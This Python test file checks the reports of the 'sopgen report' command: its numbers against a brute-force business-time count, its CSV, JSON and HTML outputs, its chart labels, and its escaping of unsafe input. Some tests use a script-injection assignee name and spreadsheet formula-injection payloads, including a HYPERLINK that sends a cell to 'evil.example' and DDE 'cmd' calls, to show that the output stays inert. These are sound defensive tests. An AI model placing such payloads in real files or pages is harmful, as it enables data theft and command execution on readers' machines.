"""`sopgen report`: its numbers against a brute-force computation, and its three formats.

A seeded history of cases (priorities, holds, steps done on time and late) is
made through the case service; `investigate` is given a timeframe per priority.
The brute force reads back only what was recorded (received, holds, priority
changes, completion times) and works the rest out by itself, minute by minute
(Berlin, Mon–Fri 09:00–17:00, DE-BE holidays and the closure days of
sopgen.yaml): the business time to complete, holds left out, and whether each
step was on time — from the budget of its timeframe, not from sopgen's
deadlines — then groups by hand.
"""

from __future__ import annotations

import csv
import io
import json
import math
import random
import statistics
from datetime import UTC, datetime, time, timedelta
from pathlib import Path
from typing import Any

import holidays
import pytest
from click.testing import CliRunner

from casekit import Project, legacy_store, make_project, project_fixture  # noqa: F401
from chartkit import SVG_NS, charts
from sopgen.anchors import anchor_graph
from sopgen.cases.performance import summarize
from sopgen.cases.service.caseservice import CaseService
from sopgen.cases.store.reportrows import report
from sopgen.cases.store.tables import Store
from sopgen.cli import cli
from sopgen.library import load_library
from sopgen.timeframe import Kind, Timeframe

NOW = "2026-12-31T12:00"
CASES = 40
SOP = "SOP-CS-001"  # no `after` anchors: every step is anchored on the received time
TARGETS = "within: {critical: 4 business hours, high: 2 business days, normal: 5 business days}"


def make_history(root: Path, cases: int, seed: int) -> None:
    library = load_library(root, None)
    assert library.config is not None
    zone = library.config.zone
    now = datetime.fromisoformat(NOW).replace(tzinfo=zone)
    service = CaseService(Store.for_project(root, None, {}), library)
    steps = [s.key for s in library.sops[SOP].steps()]
    rng = random.Random(seed)
    for n in range(cases):
        received = datetime(2026, 11, 2, 8, 0, tzinfo=zone) + timedelta(
            minutes=rng.randrange(0, 40 * 24 * 60)
        )
        priority = rng.choice(["critical", "high", "normal", "low", None])
        case_id = f"R-{n:03d}"
        service.open(
            case_id, SOP, received, now, rng.choice(["alice", "bob", None]), None, priority
        )
        if rng.random() < 0.5:
            start = received + timedelta(minutes=rng.randrange(0, 3 * 24 * 60))
            service.hold(case_id, start, now, "waiting")
            service.resume(case_id, start + timedelta(minutes=rng.randrange(0, 3 * 24 * 60)), now)
        if rng.random() < 0.3:
            later = received + timedelta(minutes=rng.randrange(1, 2 * 24 * 60))
            other = "low" if priority == "critical" else "critical"
            service.change_priority(case_id, other, later, now)
        for step in rng.sample(steps, rng.randrange(1, len(steps))):
            done = received + timedelta(minutes=rng.randrange(0, 6 * 24 * 60))
            service.done(case_id, step, min(done, now), now)
    service.store.close()


def brute_force(root: Path, cases: int, since: datetime, until: datetime) -> dict[str, Any]:
    library = load_library(root, None)
    config = library.config
    assert config is not None
    zone = config.zone
    closed = set(holidays.country_holidays("DE", subdiv="BE", years=[2026, 2027])) | set(
        config.closed
    )
    minute = timedelta(minutes=1)

    def business_day(day: Any) -> bool:
        return day.weekday() < 5 and day not in closed

    def business(moment: datetime) -> bool:  # the minute from `moment` is in opening hours
        local = moment.astimezone(zone)
        return business_day(local.date()) and time(9) <= local.time() < time(17)

    def nominal_days(received: datetime, n: int) -> datetime:
        """Closing time of the n-th business day after day 0 (docs/deadlines.md's table)."""
        local = received.astimezone(zone)
        day = local.date()
        if not (business_day(day) and local.time() <= time(17)):
            day += timedelta(days=1)
            while not business_day(day):
                day += timedelta(days=1)
        for _ in range(n):
            day += timedelta(days=1)
            while not business_day(day):
                day += timedelta(days=1)
        return datetime.combine(day, time(17), zone)

    def on_time(tf: Timeframe, received: datetime, done: datetime, holds: Any) -> bool:
        """Done by the deadline: the clock (business or elapsed minutes, not on hold)
        had not spent more than the budget by `done`, and if exactly the budget,
        the last minute before `done` still counted."""

        def held(moment: datetime) -> bool:
            return any(s <= moment < e for s, e in holds)

        if tf.kind is Kind.IMMEDIATE:
            due = received
            while not business(due) and not (
                business(due - minute) and due.astimezone(zone).time() == time(17)
            ):
                due += minute  # the next opening time (closing time itself still counts)
            while held(due) and not any(s == due for s, _ in holds):
                due += minute  # strictly inside a hold: when it ends, then opening hours
                while not held(due) and not business(due):
                    due += minute
            return done <= due
        counts = business if tf.kind in (Kind.BUSINESS_HOURS, Kind.BUSINESS_DAYS) else None
        if tf.kind is Kind.BUSINESS_HOURS:
            budget = tf.amount * 60
        elif tf.kind is Kind.BUSINESS_DAYS:
            end, moment, budget = nominal_days(received, tf.amount), received, 0
            while moment < end:
                budget += business(moment)
                moment += minute
        else:
            budget = int(tf.seconds // 60)
        spent, moment, last = 0, received, False
        while moment < done:
            last = (counts is None or counts(moment)) and not held(moment)
            spent += last
            moment += minute
        return spent < budget or (spent == budget and last)

    sop = library.sops[SOP]
    steps = {s.key: s for s in sop.steps()}
    service = CaseService(Store.for_project(root, None, {}), library)
    now = datetime.fromisoformat(NOW).replace(tzinfo=zone)
    rows: list[dict[str, Any]] = []
    for n in range(cases):
        case = service.show(f"R-{n:03d}", now)  # only what was recorded is used
        for p in case.steps:
            if p.done is None or not since <= p.done < until:
                continue
            holds = [(h.start, min(h.end or now, p.done)) for h in case.holds]
            minutes = 0
            moment = case.received
            while moment < p.done:
                held = any(s <= moment < e for s, e in holds)
                minutes += business(moment) and not held
                moment += minute
            priority = case.priorities[0][1] if case.priorities else "normal"
            for since_at, name in case.priorities[1:]:
                if since_at < p.done:  # a change at a completion's instant counts after it
                    priority = name
            step = steps[p.key]
            tf = dict(step.within_by).get(priority, step.within)
            rows.append(
                {
                    "step": p.key,
                    "assignee": case.assignee or "(unassigned)",
                    "priority": priority,
                    "on_time": on_time(tf, case.received, p.done, holds),
                    "hours": minutes / 60,
                }
            )
    service.store.close()

    def groups(key: str) -> dict[str, tuple[int, int, float, float]]:
        found: dict[str, list[dict[str, Any]]] = {}
        for row in rows:
            found.setdefault(row[key], []).append(row)
        result = {}
        for name, members in found.items():
            hours = sorted(m["hours"] for m in members)
            p90 = hours[math.ceil(0.9 * len(hours)) - 1]
            result[name] = (
                len(members),
                sum(m["on_time"] for m in members),
                round(statistics.median(hours), 2),
                round(p90, 2),
            )
        return result

    return {
        "completed": len(rows),
        "by_step": groups("step"),
        "by_assignee": groups("assignee"),
        "by_priority": groups("priority"),
    }


@pytest.fixture(scope="module")
def history(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = make_project(tmp_path_factory.mktemp("report") / "repo")
    sop = project.root / "sops" / "sop-cs-001.yaml"
    text = sop.read_text(encoding="utf-8")
    sop.write_text(text.replace("within: Within 5 business days", TARGETS, 1), encoding="utf-8")
    make_history(project.root, CASES, seed=11)
    return project.root


def run(root: Path, *args: str) -> Any:
    result = CliRunner().invoke(
        cli, ["--root", str(root), "report", *args], env={"SOPGEN_NOW": NOW}
    )
    assert result.exit_code == 0, result.output
    return result


def test_report_numbers_equal_a_brute_force_count(history: Path) -> None:
    data = json.loads(
        run(history, "--since", "2026-11-10", "--until", "2026-11-30", "--format", "json").stdout
    )
    zone = datetime.fromisoformat("2026-11-10T00:00+01:00").tzinfo
    expected = brute_force(
        history,
        CASES,
        datetime(2026, 11, 10, tzinfo=zone),
        datetime(2026, 12, 1, tzinfo=zone),
    )
    assert data["completed"] == expected["completed"] > 30
    for group, name in (
        ("by_step", "step"),
        ("by_assignee", "assignee"),
        ("by_priority", "priority"),
    ):
        got = {
            row[name]: (
                row["completed"],
                row["on_time"],
                row["median_business_hours"],
                row["p90_business_hours"],
            )
            for row in data[group]
        }
        assert got == expected[group], group
    assert [r["priority"] for r in data["by_priority"]] == [
        p for p in ("critical", "high", "normal", "low") if p in expected["by_priority"]
    ]
    # the check itself must see late steps and holds, or it proves little
    assert 0 < sum(r["on_time"] for r in data["by_step"]) < data["completed"]


def test_csv_and_html_formats(history: Path, tmp_path: Path) -> None:
    rows = list(
        csv.DictReader(io.StringIO(run(history, "--since", "2026-11-01", "--format", "csv").stdout))
    )
    data = json.loads(run(history, "--since", "2026-11-01", "--format", "json").stdout)
    assert len(rows) == len(data["by_step"]) + len(data["by_assignee"]) + len(data["by_priority"])
    assert {r["group"] for r in rows} == {"step", "assignee", "priority"}
    out = tmp_path / "r.html"
    result = run(history, "--since", "2026-11-01", "--until", "2026-11-29", "--output", str(out))
    assert "wrote" in result.stdout and "done 2026-11-01 to 2026-11-29)" in result.stdout
    html = out.read_text()
    # the page names the same period as the command, the last day included (issue #11)
    assert "steps done from 2026-11-01 to 2026-11-29 ·" in html and "to before" not in html
    # the figure after a share is the number of steps done, labelled, as on the dashboard
    same = run(history, "--since", "2026-11-01", "--until", "2026-11-29", "--format", "json")
    first = json.loads(same.stdout)["by_step"][0]
    assert '<th scope="col">On time, % of done</th>' in html
    assert f"% of {first['completed']}</td>" in html and "% (" not in html
    assert "<script" not in html and "http://" not in html.replace(SVG_NS, "")  # nothing fetched
    # a chart per SOP, per assignee and per priority: each group a labelled bar as long as
    # its on-time share, the share and count written after it as text
    from sopgen.render.barchart import label_lines

    drawn = charts(html)
    assert set(drawn) == {"On time per SOP step, " + SOP, "On time per assignee",
                          "On time per priority"}  # fmt: skip
    for group, name, key in (("by_step", "On time per SOP step, " + SOP, "step_name"),
                             ("by_assignee", "On time per assignee", "assignee"),
                             ("by_priority", "On time per priority", "priority")):  # fmt: skip
        rows = json.loads(same.stdout)[group]
        assert [(" ".join(label), value) for label, _, value in drawn[name]] == [
            (
                " ".join(label_lines(g[key])),
                [f"{100 * g['on_time_share']:.0f} % of {g['completed']}"],
            )
            for g in rows
        ]
        for (_, [width], _), g in zip(drawn[name], rows, strict=True):
            assert width == pytest.approx(100 * g["on_time_share"], abs=0.01)
    assert {w for rows in drawn.values() for _, [w], _ in rows} - {0.0, 100.0}  # not all, none


def test_output_writes_every_format_to_the_file(history: Path, tmp_path: Path) -> None:
    """A new user's cron job: `--format csv --output FILE` printed the CSV, wrote no file
    and exited 0. Every format now goes to the file --output names."""
    for fmt in ("csv", "json"):
        printed = run(history, "--since", "2026-11-01", "--format", fmt).stdout
        out = tmp_path / "deep" / f"report.{fmt}"
        said = run(history, "--since", "2026-11-01", "--format", fmt, "--output", str(out))
        assert out.read_text() == printed
        assert said.stdout.startswith(f"wrote {out} (") and printed not in said.stdout
    blocked = tmp_path / "a-file"
    blocked.write_text("")
    result = CliRunner().invoke(
        cli,
        ["--root", str(history), "report", "--format", "csv", "--output", str(blocked / "r.csv")],
        env={"SOPGEN_NOW": NOW},
    )
    assert result.exit_code == 1 and "cannot write" in result.output
    assert "Traceback" not in result.output and blocked.read_text() == ""


def test_bad_dates_are_usage_errors(history: Path) -> None:
    result = CliRunner().invoke(cli, ["--root", str(history), "report", "--since", "2026-13-01"])
    assert result.exit_code == 1 and "is not a date" in result.output
    result = CliRunner().invoke(
        cli, ["--root", str(history), "report", "--since", "2026-12-01", "--until", "2026-11-01"]
    )
    assert result.exit_code == 1 and "is after" in result.output


HOSTILE = "</text><script>alert(1)</script>"
CAPS = "WOLFGANG MAXIMILIAN WEISSMÜLLER-WAGENKNECHT (QM WEST)"
LONG = "Maximiliane Alexandra Friederike von Hohenzollern-Sigmaringen (Beschwerdestelle Nord)"


@pytest.fixture(scope="module")
def labelled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Steps done by assignees with a hostile, a very long and a wide name."""
    project = make_project(tmp_path_factory.mktemp("labels") / "repo")
    library = load_library(project.root, None)
    assert library.config is not None
    zone = library.config.zone
    now = datetime.fromisoformat(NOW).replace(tzinfo=zone)
    service = CaseService(Store.for_project(project.root, None, {}), library)
    steps = [s.key for s in library.sops[SOP].steps()]
    for n, who in enumerate([HOSTILE, LONG, "bob", CAPS]):
        received = datetime(2026, 12, 1, 9, tzinfo=zone) + timedelta(days=n)
        service.open(f"L-{n}", SOP, received, now, who)
        for i, step in enumerate(steps[: 2 + n]):
            service.done(f"L-{n}", step, received + timedelta(days=i * n), now)
    service.store.close()
    return project.root


def test_chart_labels_are_inert_text_and_long_ones_wrap(labelled: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.html"
    run(labelled, "--since", "2026-12-01", "--output", str(out))
    html = out.read_text()
    assert "<script" not in html
    assert "&lt;/text&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in html  # also in the table
    labels = [label for label, _, _ in charts(html)["On time per assignee"]]
    assert [HOSTILE] in labels  # read back as the name it is: text, not markup
    long = next(label for label in labels if label[0].startswith("Maximiliane"))
    # two lines broken between words, the rest left to the table under the chart
    assert len(long) == 2 and long[1].endswith("…")
    assert long[0] == LONG[: len(long[0])] and LONG[len(long[0])] in " -"
    assert LONG.startswith(" ".join(long).removesuffix("…"))
    assert f"<td>{LONG}</td>" in html
    # each SOP's chart under the SOP's id and title
    title = load_library(labelled, None).sops[SOP].title
    assert f'<h3><span class="nowrap">{SOP}</span> {title}</h3><figure>' in html


def test_a_period_with_nothing_done_has_no_chart_but_says_so(labelled: Path, tmp_path: Path):
    out = tmp_path / "r.html"
    run(labelled, "--since", "2026-11-01", "--until", "2026-11-02", "--output", str(out))
    html = out.read_text()
    assert "<svg" not in html and html.count("No step was done in this period.") == 3


def test_the_html_report_is_the_same_file_every_time(history: Path, tmp_path: Path) -> None:
    first, second = tmp_path / "1.html", tmp_path / "2.html"
    for out in (first, second):
        run(history, "--since", "2026-11-01", "--output", str(out))
    assert first.read_bytes() == second.read_bytes()


@pytest.mark.parametrize("width", [390, 1280])
def test_the_html_report_fits_a_phone_and_keeps_ids_whole(
    history: Path, labelled: Path, tmp_path: Path, width: int
) -> None:
    import shutil

    from chartkit import LAYOUT
    from test_document_layout import BROKEN, CHROMIUM

    if shutil.which(CHROMIUM) is None:
        pytest.skip("needs Debian's chromium at /usr/bin/chromium")
    playwright = pytest.importorskip("playwright.sync_api")
    pages = []
    for root in (history, labelled):
        pages.append(tmp_path / f"{root.parent.name}.html")
        run(root, "--since", "2026-11-01", "--output", str(pages[-1]))
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        try:
            page = browser.new_page(viewport={"width": width, "height": 844})
            for out in pages:
                page.goto(out.as_uri())
                # the page never scrolls sideways (a wide table scrolls in its own box)
                assert page.evaluate("document.documentElement.scrollWidth") <= width
                assert page.evaluate(BROKEN) == []  # SOP-CS-001 on one line
                # the charts' text keeps its size at any width, fits and overlaps nothing;
                # each bar's length is the share written after it
                assert page.evaluate("document.querySelectorAll('svg.barchart').length") >= 3
                assert page.evaluate(LAYOUT) == []
                # printed, the bars keep their colour
                page.emulate_media(media="print")
                adjust = "getComputedStyle(document.querySelector('svg.barchart')).printColorAdjust"
                assert page.evaluate(adjust) == "exact"
                page.emulate_media(media="screen")
        finally:
            browser.close()


def test_one_step_done_is_counted_in_the_singular(tmp_path: Path) -> None:
    """ "1 steps done" read like a typo in the first week; every count agrees with its noun."""
    root = tmp_path / "one"
    make_project(root)
    library = load_library(root, None)
    assert library.config is not None
    zone = library.config.zone
    now = datetime.fromisoformat(NOW).replace(tzinfo=zone)
    service = CaseService(Store.for_project(root, None, {}), library)
    service.open("ONE-1", SOP, now - timedelta(days=2), now, None, None, None)
    service.done("ONE-1", next(library.sops[SOP].steps()).key, now - timedelta(days=1), now)
    service.store.close()
    out = tmp_path / "one.html"
    said = run(root, "--output", str(out)).stdout
    assert "(1 step done " in said and "1 steps" not in said
    html = out.read_text()
    assert "· 1 step, " in html and "1 steps" not in html


def test_report_rows_are_the_plans_on_sqlite_and_postgresql(project: Project) -> None:
    """What the report reads straight from the store (plain rows, its own path through
    the plan) equals each case's plan as `case show` gives it: deadlines, completion
    times, priorities and business times, with `after` chains (SOP-CS-002), holds (one
    still running), priority changes and the autumn DST change; a step done at the
    period's first instant counts, one done at the instant it ends does not. The
    command's own read (the default SQLite file through `sqlite3` alone, the server
    through SQLAlchemy) gives the report of those rows."""
    sop = project.root / "sops" / "sop-cs-001.yaml"
    text = sop.read_text(encoding="utf-8")
    sop.write_text(text.replace("within: Within 5 business days", TARGETS, 1), encoding="utf-8")
    library = load_library(project.root, None)
    assert library.config is not None
    zone = library.config.zone
    now = datetime(2026, 11, 23, 10, 0, tzinfo=zone)
    since = datetime(2026, 10, 20, 9, 30, 15, 250_000, tzinfo=zone)  # compared as stored
    service = CaseService(Store.for_project(project.root, None), library)
    rng = random.Random(23)
    for n in range(16):
        sop_id = ("SOP-CS-001", "SOP-CS-002")[n % 2]
        received = datetime(2026, 10, 19, 8, tzinfo=zone) + timedelta(
            minutes=rng.randrange(0, 25 * 24 * 60)
        )
        case_id = f"Q-{n:02d}"
        priority = rng.choice(["critical", "high", None])
        service.open(
            case_id, sop_id, received, now, rng.choice(["alice", None]), None, priority,
            allow_draft=True,
        )  # fmt: skip
        if n % 3 == 0:
            held = received + timedelta(minutes=rng.randrange(0, 3 * 24 * 60))
            service.hold(case_id, held, now, "waiting")
            if n % 6 == 0:
                service.resume(case_id, held + timedelta(minutes=rng.randrange(1, 4000)), now)
        if n % 4 == 1:
            later = received + timedelta(minutes=rng.randrange(1, 2 * 24 * 60))
            service.change_priority(case_id, "low" if priority else "critical", later, now)
        steps = [s.key for s in library.sops[sop_id].steps()]
        ticks = [
            (min(received + timedelta(minutes=rng.randrange(0, 10 * 24 * 60)), now), step)
            for step in rng.sample(steps, rng.randrange(1, len(steps)))
        ]
        # ticked in time order (a step anchored after another one at the same time last):
        # a step may be done before the one it is anchored after, but that one cannot then
        # be dated back before it (docs/deadlines.md "Timeframes")
        graph = anchor_graph(library.sops[sop_id])
        order = {graph.steps[i].key: rank for rank, i in enumerate(graph.order)}
        for done, step in sorted(ticks, key=lambda t: (t[0], order[t[1]])):
            service.done(case_id, step, done, now)
    # the period's edges: done at its first instant, and at the instant after its end
    # (each its own case: a case is read whole when any of its steps is in the period)
    for case_id, done_at in (("Q-FIRST", since), ("Q-END", now)):
        service.open(case_id, "SOP-CS-001", since - timedelta(hours=3), now, allow_draft=True)
        service.done(case_id, "intake.receive", done_at, now)

    rows = service.report_rows(since, now)
    expected = set()
    for case_id in [f"Q-{n:02d}" for n in range(16)] + ["Q-FIRST", "Q-END"]:
        case = service.show(case_id, now)
        for p in case.steps:
            if p.done is None or not since <= p.done < now:
                continue
            priority = case.priorities[0][1] if case.priorities else "normal"
            for since_at, name in case.priorities[1:]:
                if since_at < p.done:  # a change at a completion's instant counts after it
                    priority = name
            business = service.calendar.business_time(p.anchor, p.done, p.holds)
            due, done = p.due.astimezone(UTC), p.done.astimezone(UTC)  # instants
            row = (case_id, case.sop.id, p.key, case.assignee, priority, due, done, business)
            expected.add(row)
    service.store.close()
    assert report(project.root, library, library.config, since, now) == summarize(
        rows, since, now, library.config.priorities
    )
    assert len(rows) == len(expected) > 40
    assert {r._replace(due=r.due.astimezone(UTC), done=r.done.astimezone(UTC)) for r in rows} == (
        expected
    )
    assert "Q-FIRST" in {r.case for r in rows} and "Q-END" not in {r.case for r in rows}
    # the history exercises what the rows must agree on
    assert {r.priority for r in rows} >= {"critical", "low", "normal"}
    assert any(r.done > r.due for r in rows) and any(r.done <= r.due for r in rows)


def test_a_store_of_an_earlier_sopgen_is_refused_with_the_upgrade_hint(project: Project) -> None:
    """The report reads the default SQLite file by itself only at this sopgen's revision;
    any other store goes through the case store, which says what to do."""
    legacy_store(project)
    result = CliRunner().invoke(cli, ["--root", str(project.root), "report", "--format", "json"])
    assert result.exit_code == 1, result.output
    assert "needs an upgrade" in result.output and "sopgen db upgrade" in result.output
    assert "Traceback" not in result.output


def test_a_step_done_within_its_deadlines_minute_is_on_time_in_show_and_report(
    project: Project,
) -> None:
    """Deadlines are shown to the minute: ticked "now" at 10:00:37 when due 10:00 is on
    time on the case page and in `case show`; the report counted it late (seconds)."""
    opened = project.run("open", "C-1", "--sop", "SOP-CS-001", "--received", "2026-11-23T10:00")
    assert opened.exit_code == 0, opened.output
    assert project.run("done", "C-1", "A1", now="2026-11-23T10:00:37").exit_code == 0
    assert project.run("done", "C-1", "A2", now="2026-11-23T11:01:05").exit_code == 0
    shown = json.loads(project.run("show", "C-1", "--format", "json").stdout)
    status = {s["step"]: s["status"] for s in shown["steps"]}
    assert status["intake.receive"] == "done" and status["intake.record"] == "done-late"
    report = json.loads(
        run(
            project.root, "--since", "2026-11-01", "--until", "2026-11-30", "--format", "json"
        ).stdout
    )
    steps = {g["step"]: g for g in report["by_step"]}
    assert steps["intake.receive"]["on_time"] == 1
    assert steps["intake.record"]["on_time"] == 0  # due 11:00, done 11:01:05


def test_the_quick_sqlite_read_is_used_on_the_default_file_and_never_past_a_set_url(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`sopgen report` reads the default SQLite file with sqlite3 alone; a store named by
    SOPGEN_DATABASE_URL (or sopgen.yaml's database:) is the one reported on, even with a
    default file beside it holding other cases."""
    import sopgen.cases.store.reportrows as reportrows

    monkeypatch.setenv("SOPGEN_NOW", "2026-11-27T12:00")
    monkeypatch.delenv("SOPGEN_DATABASE_URL", raising=False)
    project = make_project(tmp_path / "p")
    quick: list[bool] = []
    real = reportrows._default_sqlite_rows

    def spy(*args: Any) -> Any:
        found = real(*args)
        quick.append(found is not None)
        return found

    monkeypatch.setattr(reportrows, "_default_sqlite_rows", spy)

    def done_in(*steps: str, case: str) -> None:
        opened = project.run("open", case, "--sop", "SOP-CS-001", "--received", "2026-11-23T10:00")
        assert opened.exit_code == 0, opened.output
        for step in steps:
            assert project.run("done", case, step, "--at", "2026-11-23T10:30").exit_code == 0

    def reported() -> int:
        data = json.loads(run(project.root, "--since", "2026-11-01", "--format", "json").stdout)
        return int(data["completed"])

    done_in("A1", case="DEFAULT-1")
    assert reported() == 1 and quick == [True]
    other = tmp_path / "other.db"
    monkeypatch.setenv("SOPGEN_DATABASE_URL", f"sqlite:///{other}")
    done_in("A1", "A2", "A3", case="OTHER-1")
    assert reported() == 3 and quick[-1] is False  # the named store, not the default file


FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
]


def test_report_csv_cells_never_start_a_formula(project: Project) -> None:
    received = ("--received", "2026-11-23T08:00")
    for n, assignee in enumerate(FORMULAS):
        opened = project.run(
            "open", f"C-{n}", "--sop", "SOP-CS-001", *received, "--assignee", assignee
        )
        assert opened.exit_code == 0, opened.output
        done = project.run("done", f"C-{n}", "receive", "--at", "2026-11-23T09:00")
        assert done.exit_code == 0, done.output
    text = run(project.root, "--since", "2026-11-01", "--format", "csv").stdout
    assignees = {
        r["assignee"] for r in csv.DictReader(io.StringIO(text)) if r["group"] == "assignee"
    }
    # each shown as text: a quote first (a tab inside an assignee is cleaned to a space)
    assert assignees == {"'" + " ".join(a.split()) for a in FORMULAS}
    assert not any(line.startswith(("=", "+", "-", "@")) for line in text.splitlines())
    for cell in text.replace("\n", ",").split(","):
        assert not cell.lstrip('"').startswith(("=", "+", "@", "\t", "\r")), cell


def test_safe_cell_prefixes_what_a_spreadsheet_would_run_and_nothing_else() -> None:
    from sopgen.csvout import csv_text, safe_cell

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1") == "'" + start + "1"
    for kept in ("alice", "Bob = boss", "", " =x", 3, -2.5, None):
        assert safe_cell(kept) == kept
    assert csv_text([["=1+2", -1, 'say "hi"']]) == '\'=1+2,-1,"say ""hi"""\n'


def test_the_report_names_assignees_by_name_as_the_dashboard_does(project: Project) -> None:
    """Issue 18 item 12: desk users by their name (the login stays in JSON and CSV for
    machines); an assignee who is no desk user keeps the login. On the default SQLite
    file (the quick sqlite3 read) and on PostgreSQL (the Store's read)."""
    received = ("--received", "2026-11-23T08:00")
    # opened before the desk has users, when any login may be an assignee
    for case_id, assignee in (("C-1", "ada"), ("C-2", "ada"), ("C-3", "zed")):
        opened = project.run(
            "open", case_id, "--sop", "SOP-CS-001", *received, "--assignee", assignee
        )
        assert opened.exit_code == 0, opened.output
        done = project.run("done", case_id, "receive", "--at", "2026-11-23T09:00")
        assert done.exit_code == 0, done.output
    added = project.runner.invoke(
        cli,
        [
            "--root",
            str(project.root),
            "user",
            "add",
            "ada",
            "--name",
            "Ada Lovelace",
            "--role",
            "rep",
        ],
        input="correct horse battery\n",
    )
    assert added.exit_code == 0, added.output
    data = json.loads(run(project.root, "--since", "2026-11-01", "--format", "json").stdout)
    names = {row["assignee"]: row["assignee_name"] for row in data["by_assignee"]}
    assert names == {"ada": "Ada Lovelace", "zed": "zed"}
    text = run(project.root, "--since", "2026-11-01", "--format", "csv").stdout
    rows = [r for r in csv.DictReader(io.StringIO(text)) if r["group"] == "assignee"]
    assert {(r["assignee"], r["assignee_name"]) for r in rows} == set(names.items())
    html = project.root / "report.html"
    run(project.root, "--since", "2026-11-01", "--output", str(html))
    drawn = charts(html.read_text(encoding="utf-8"))["On time per assignee"]
    assert sorted(" ".join(label) for label, _, _ in drawn) == ["Ada Lovelace", "zed"]
